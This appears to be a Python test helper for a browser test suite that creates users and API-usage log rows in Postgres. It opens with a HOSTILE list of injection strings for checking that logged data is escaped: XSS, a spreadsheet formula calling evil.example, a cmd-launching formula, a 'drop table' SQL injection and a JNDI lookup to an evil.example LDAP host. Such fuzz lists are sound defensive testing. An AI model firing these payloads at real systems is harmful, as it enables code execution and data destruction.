"""What the engine does while somebody looks: calls that it writes into its log."""

import uuid
from collections.abc import Mapping
from datetime import datetime
from typing import Any

from psycopg import sql

from tests.browser.house import Connection

HOSTILE = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=window.hacked=1>",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; drop table analytics.call_day; --",
    "%(x)s {0} ${jndi:ldap://evil.example/a}",
    "\u202egnirts desrever",
    "😀🏴‍☠️ e\u0301",
    "x" * 10_000,
)


def make_user(connection: Connection, *, created_at: datetime | None = None) -> uuid.UUID:
    """A person who has signed up."""
    row = connection.execute(
        "insert into auth.users (id, created_at) values (gen_random_uuid(), coalesce(%s, now())) returning id",
        [created_at],
    ).fetchone()
    assert row is not None
    return uuid.UUID(str(row[0]))


def any_user(connection: Connection) -> uuid.UUID:
    """Somebody who is there already."""
    row = connection.execute("select id from auth.users order by id limit 1").fetchone()
    assert row is not None
    return uuid.UUID(str(row[0]))


def call(connection: Connection, user: uuid.UUID, **given: Any) -> None:
    """One call of the engine, successful and just now unless said otherwise."""
    values: Mapping[str, Any] = {
        "user_id": user,
        "service_type": "chat",
        "provider": "openai",
        "model": "gpt-4o-mini",
        "endpoint": "/api/chat",
        "input_tokens": 120,
        "output_tokens": 80,
        "total_cost": "0.0042",
        "latency_ms": 640,
        "status": "success",
        **given,
    }
    names = sql.SQL(", ").join(map(sql.Identifier, values))
    marks = sql.SQL(", ").join(sql.Placeholder() for _ in values)
    statement = sql.SQL("insert into public.api_usage ({}) values ({})").format(names, marks)
    connection.execute(statement, list(values.values()))
